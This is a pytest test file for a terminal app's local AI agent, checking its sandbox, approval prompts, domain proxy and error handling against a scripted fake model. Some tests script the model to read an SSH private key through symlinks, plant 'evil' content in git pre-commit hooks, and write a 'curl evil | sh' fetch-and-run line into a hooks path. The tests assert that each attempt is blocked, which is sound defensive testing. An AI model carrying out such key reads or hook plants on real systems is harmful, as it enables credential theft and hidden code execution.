"""The local agent end to end: a fake OpenAI-compatible server on 127.0.0.1, the real app (Pilot)
or `tuishell chat --once`, the real sandbox and proxy."""

from __future__ import annotations

import json
import os
import sys
import threading

import pytest

from fake_openai import FakeOpenAI, cut_after, slow, status, text, tool_call
from test_app import BODY, conversation_text, pane_text, submit, wait_for, web  # noqa: F401 (fixture)
from tuishell.agent.session import Conversation
from tuishell.app import TuishellApp

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")


@pytest.fixture
def model():
    with FakeOpenAI(models=["fake-coder"]) as server:
        yield server


def make_app(me, model, **kw) -> TuishellApp:
    return TuishellApp(me.workspace, hosts={"app.test": "127.0.0.1"}, base_url=model.base_url, **kw)


async def connected(pilot, app):
    await wait_for(pilot, lambda: app.agent is not None)


async def ask(pilot, app, message: str):
    before = app.agent.turns
    await submit(pilot, app, message)
    await wait_for(pilot, lambda: app.agent.turns > before)
    await pilot.pause(0.1)


def tool_results(model) -> list[str]:
    return [m["content"] for m in model.requests[-1]["messages"] if m["role"] == "tool"]


async def test_plain_text_streams_into_the_conversation_and_is_saved(me, model):
    model.script([text("Hello from the model.")])
    app = make_app(me, model)
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        assert "fake-coder" in str(app.query_one("#status").render())
        await ask(pilot, app, "hi")
        assert "Hello from the model." in conversation_text(app)
    saved = Conversation.saved()
    assert saved and saved[0][1] == "hi"
    messages = Conversation.load(saved[0][0]).messages
    assert [m["role"] for m in messages] == ["user", "assistant"]
    assert model.requests[0]["tools"] and model.requests[0]["stream"] is True


async def test_shell_tool_writes_in_workspace_write_and_the_result_goes_back(me, model):
    model.script([tool_call("shell", {"command": "echo from-agent > agent.txt && echo done"}), text("Wrote it.")])
    app = make_app(me, model)
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        await ask(pilot, app, "write a file")
        assert (me.workspace / "agent.txt").read_text() == "from-agent\n"
        assert "echo from-agent" in pane_text(app) and "(agent)" in pane_text(app)
        assert "Wrote it." in conversation_text(app)
    result = tool_results(model)[0]
    assert result.startswith("exit code 0") and "done" in result


async def test_shell_tool_refused_in_read_only_raises_the_violation_modal(me, model):
    model.script([tool_call("shell", {"command": "touch agent.txt"}), text("It failed.")])
    app = make_app(me, model)
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        await pilot.press("f2")
        await submit(pilot, app, "touch a file")
        await wait_for(pilot, lambda: type(app.screen).__name__ == "ChoiceModal")
        body = " ".join(str(w.render()) for w in app.screen.query("Static"))
        assert "read-only mode" in body
        await pilot.press("l")
        await wait_for(pilot, lambda: not app.agent.busy)
    assert not (me.workspace / "agent.txt").exists()
    assert "read-only mode" in tool_results(model)[0]  # the model is told which rule blocked it


async def test_tool_reaching_an_unknown_domain_asks_with_the_domain_modal(me, model, web):
    model.script([tool_call("shell", {"command": f"curl -s http://app.test:{web}/"}), text("Fetched.")])
    app = make_app(me, model)
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        await submit(pilot, app, "fetch it")
        await wait_for(pilot, lambda: type(app.screen).__name__ == "ChoiceModal")
        assert "app.test" in " ".join(str(w.render()) for w in app.screen.query("Static"))
        await pilot.press("y")
        await wait_for(pilot, lambda: app.agent is not None and not app.agent.busy)
    assert BODY in tool_results(model)[0]


@pytest.mark.parametrize("turn, words", [
    (tool_call("shell", '{"command": "ls"'), ["invalid tool call", "not valid JSON"]),
    (tool_call("rm_rf_everything", {"x": 1}), ["invalid tool call", "unknown tool"]),
    (status(500, "the model crashed"), ["failed", "500", "the model crashed"]),
    (cut_after(2, text("this answer will be cut short")), ["failed", "cut"]),
])
async def test_bad_model_output_ends_the_turn_with_a_message_and_keeps_history_valid(me, model, turn, words):
    model.script([turn])
    app = make_app(me, model)
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        await ask(pilot, app, "do something")
        said = conversation_text(app)
        for word in words:
            assert word.lower() in said.lower()
        messages = app.agent.conversation.messages
        for i, message in enumerate(messages):  # every tool call is answered by a tool result
            for call in message.get("tool_calls") or []:
                assert any(m.get("tool_call_id") == call["id"] for m in messages[i + 1:])
        assert messages[-1]["role"] in ("user", "tool")


async def test_esc_cancels_a_slow_stream_at_once(me, model):
    model.script([slow(30, text("a very slow answer"))])
    app = make_app(me, model)
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        await submit(pilot, app, "go")
        await wait_for(pilot, lambda: app.agent.busy)
        await pilot.pause(0.3)
        await pilot.press("escape")
        await wait_for(pilot, lambda: not app.agent.busy, timeout=10)
        assert model.disconnected.wait(5)
        assert "Cancelled" in conversation_text(app)


async def test_no_server_banner_names_the_url_and_bang_commands_still_work(me):
    app = TuishellApp(me.workspace, base_url="http://127.0.0.1:9/v1")
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_for(pilot, lambda: bool(app.query(".model-banner")))
        banner = str(app.query_one(".model-banner").render())
        assert "127.0.0.1:9" in banner and "ollama serve" in banner
        await submit(pilot, app, "!echo still-works")
        await wait_for(pilot, lambda: app.current is not None and not app.current.running)
        await pilot.pause(0.1)
        assert "still-works" in pane_text(app)


async def test_a_model_looping_on_tool_calls_is_stopped(me, model):
    model.script([tool_call("list_dir", {"path": "."}) for _ in range(25)])
    app = make_app(me, model)
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        app.agent.max_tool_rounds = 3
        await ask(pilot, app, "loop")
        assert "Stopped" in conversation_text(app)
    assert len(model.requests) == 3


async def test_untrusted_asks_before_a_command_that_writes(me, model):
    model.script([tool_call("shell", {"command": "ls"}), tool_call("shell", {"command": "touch x.txt"}), text("ok")])
    app = make_app(me, model, approvals="untrusted")
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        await submit(pilot, app, "go")
        await wait_for(pilot, lambda: type(app.screen).__name__ == "ChoiceModal")
        assert "touch x.txt" in " ".join(str(w.render()) for w in app.screen.query("Static"))
        await pilot.press("n")
        await wait_for(pilot, lambda: not app.agent.busy)
    assert not (me.workspace / "x.txt").exists()
    assert "declined" in tool_results(model)[1]


async def test_file_tools_follow_the_sandbox_policy(me, model):
    os.symlink(me.home / ".ssh" / "id_ed25519", me.workspace / "innocent.txt")
    model.script([tool_call("read_file", {"path": "~/.ssh/id_ed25519"}) + tool_call("read_file", {"path": "innocent.txt"})
                  + tool_call("write_file", {"path": "sub/.git/hooks/pre-commit", "content": "evil"})
                  + tool_call("write_file", {"path": "notes.md", "content": "fine"})
                  + tool_call("read_file", {"path": "README"}),
                  text("done")])
    app = make_app(me, model, approvals="never")
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        await ask(pilot, app, "files")
    results = tool_results(model)
    assert all("SECRET" not in r for r in results)
    assert "unreadable" in results[0] and "unreadable" in results[1]
    assert "git hooks" in results[2] and not (me.workspace / "sub" / ".git").exists()
    assert (me.workspace / "notes.md").read_text() == "fine"
    assert results[4] == "hello\n"


async def test_new_and_resume(me, model):
    model.script([text("first answer"), text("second answer")])
    app = make_app(me, model)
    async with app.run_test(size=(100, 30)) as pilot:
        await connected(pilot, app)
        await ask(pilot, app, "first question")
        first_id = app.agent.conversation.id
        await submit(pilot, app, "/new")
        assert app.agent.conversation.id != first_id and app.agent.conversation.messages == []
        await ask(pilot, app, "second question")
        await submit(pilot, app, "/resume")
        await pilot.pause()
        options = app.screen.query_one("#dialog-options")
        index = next(i for i in range(options.option_count) if first_id in str(options.get_option_at_index(i).prompt))
        await pilot.press(str(index + 1))
        await pilot.pause()
        assert app.agent.conversation.id == first_id
        assert "first answer" in conversation_text(app)


def test_chat_once_prints_the_transcript_with_tool_calls(me, model):
    model.script([tool_call("shell", {"command": "echo hi > once.txt; echo written"}), text("All done.")])
    result = me.run("chat", "--base-url", model.base_url, "--once", "make once.txt")
    assert result.returncode == 0, result.stderr
    assert "> make once.txt" in result.stdout
    assert "[shell] echo hi > once.txt" in result.stdout and "written" in result.stdout
    assert "All done." in result.stdout
    assert (me.workspace / "once.txt").read_text() == "hi\n"


@pytest.mark.parametrize("turn, words", [
    (status(500, "boom"), ["500", "boom"]),
    (cut_after(1, text("cut short here")), ["cut"]),
    (tool_call("shell", "{not json"), ["not valid JSON"]),
])
def test_chat_once_reports_bad_model_output(me, model, turn, words):
    model.script([turn])
    result = me.run("chat", "--base-url", model.base_url, "--once", "go")
    assert result.returncode == 1
    for word in words:
        assert word in result.stdout


def test_chat_once_without_a_server_names_the_url(me):
    result = me.run("chat", "--base-url", "http://127.0.0.1:9/v1", "--once", "hi")
    assert result.returncode == 1
    assert "127.0.0.1:9" in result.stderr and "ollama serve" in result.stderr


def test_chat_once_denies_unknown_domains_and_tells_the_model(me, model, web):
    model.script([tool_call("shell", {"command": f"curl -s -i http://app.test:{web}/ | head -1"}), text("Blocked.")])
    result = me.run("chat", "--base-url", model.base_url, "--resolve", "app.test=127.0.0.1", "--once", "fetch")
    assert result.returncode == 0
    assert "403" in json.dumps(model.requests[-1]["messages"])


def test_file_tools_do_not_follow_links_planted_in_the_private_tmp(me):
    """A sandboxed command links /tmp/k to the key; the host-side file tool must not follow it."""
    from tuishell.agent.tools import FileTools
    from tuishell.shell import open_session

    shell, _ = open_session(me.workspace, {}, (), {}, None)
    try:
        done = threading.Event()
        shell.run_command(f"ln -s {me.home}/.ssh/id_ed25519 /tmp/k && ln -s {me.home}/.bashrc /tmp/rc", lambda r: done.set())
        assert done.wait(30)
        tools = FileTools(shell)
        read = tools.read_file({"path": "/tmp/k"})
        assert not read.ok and "SECRET" not in read.content
        wrote = tools.write_file({"path": "/tmp/rc", "content": "evil"})
        assert not wrote.ok and not (me.home / ".bashrc").exists()
        assert tools.write_file({"path": "/tmp/fine.txt", "content": "ok"}).ok
        assert (shell.session.tmp / "fine.txt").read_text() == "ok"
    finally:
        shell.stop_all()


async def test_model_and_approvals_slash_commands(me):
    with FakeOpenAI(models=["first-model", "second-model"]) as server:
        app = TuishellApp(me.workspace, base_url=server.base_url)
        async with app.run_test(size=(100, 30)) as pilot:
            await connected(pilot, app)
            assert app.agent.client.config.model == "first-model"
            await submit(pilot, app, "/model")
            await wait_for(pilot, lambda: type(app.screen).__name__ == "ChoiceModal")
            await pilot.press("2")
            await pilot.pause(0.1)
            assert app.agent.client.config.model == "second-model"
            await submit(pilot, app, "/approvals never")
            assert app.agent.approvals.value == "never" and "(never)" in str(app.query_one("#status").render())
            await submit(pilot, app, "/approvals sometimes")
            assert "takes one of" in conversation_text(app)


def test_file_tools_refuse_a_configured_hooks_path(me):
    import subprocess

    from tuishell.agent.tools import FileTools
    from tuishell.shell import open_session

    subprocess.run(["git", "-C", str(me.workspace), "config", "core.hooksPath", ".husky"], check=True)
    shell, _ = open_session(me.workspace, {}, (), {}, None)
    try:
        result = FileTools(shell).write_file({"path": ".husky/pre-commit", "content": "curl evil | sh"})
        assert not result.ok and "core.hooksPath" in result.content
        assert not (me.workspace / ".husky").exists()
    finally:
        shell.stop_all()
